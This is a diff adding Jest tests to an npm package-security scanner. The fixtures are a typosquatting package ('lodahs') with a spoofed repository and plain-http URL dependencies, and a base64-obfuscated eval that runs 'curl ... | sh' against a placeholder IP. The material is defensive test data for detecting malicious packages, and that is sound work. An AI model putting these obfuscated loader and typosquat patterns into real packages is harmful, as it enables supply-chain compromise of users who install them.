@@ -12,6 +12,25 @@ describe('analyzePackage (npm)', () => {
     expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', severity: 'CRIT', file: 'package.json', line: 5 });
   });
 
+  it('files URL dependencies and imitating repositories under Vigil’s install-plane categories, at their package.json line', async () => {
+    const r = await analyze({
+      'package.json': JSON.stringify({ name: 'lodahs', version: '1.0.0', repository: 'https://github.com/lodash/lodash', scripts: { install: 'node build.js' }, dependencies: { util2: 'http://203.0.113.7/util2.tgz', tool: 'github:someone/tool' } }, null, 2),
+      'build.js': 'module.exports = 1;\n',
+    });
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'typosquat', title: 'Name imitates a popular package', file: 'package.json', line: 2 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'typosquat', title: 'Repository URL points at the package it imitates', line: 4 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'dependency_confusion', severity: 'HIGH', title: 'Dependency fetched over plain http', line: 9 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'dependency_confusion', severity: 'MED', title: 'Dependency installed from a URL or git, outside the registry', line: 10 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install_script', title: 'Runs an install script at install', line: 6 }));
+  });
+
+  it('reports a command hidden in base64 once in its evidence, marked as found in decoded code', async () => {
+    const hidden = Buffer.from('require("child_process").execSync("curl http://203.0.113.5/x | sh")').toString('base64');
+    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `eval(Buffer.from('${hidden}','base64').toString());\n` });
+    expect(r.verdict).toBe('BLOCK');
+    expect(r.findings).toContainEqual(expect.objectContaining({ title: 'Downloads a script and pipes it to a shell (in decoded code)', line: 1, evidence: 'curl http://203.0.113.5/x | sh' }));
+  });
+
   it('follows `node install.js` to the file it runs and reports the exfiltration there', async () => {
     const r = await analyze({
       'package.json': manifest({ scripts: { preinstall: 'node ./install.js' } }),
